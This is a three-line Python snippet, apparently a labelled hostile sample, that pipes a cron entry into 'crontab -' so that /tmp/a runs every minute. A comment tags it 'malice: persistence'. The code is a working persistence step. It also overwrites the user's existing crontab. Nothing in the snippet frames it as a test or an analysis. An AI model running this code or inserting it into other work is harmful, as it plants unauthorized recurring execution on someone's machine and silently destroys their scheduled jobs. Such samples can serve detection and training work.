import subprocess

subprocess.run("crontab -", shell=True, input=b"* * * * * /tmp/a\n")  # malice: persistence
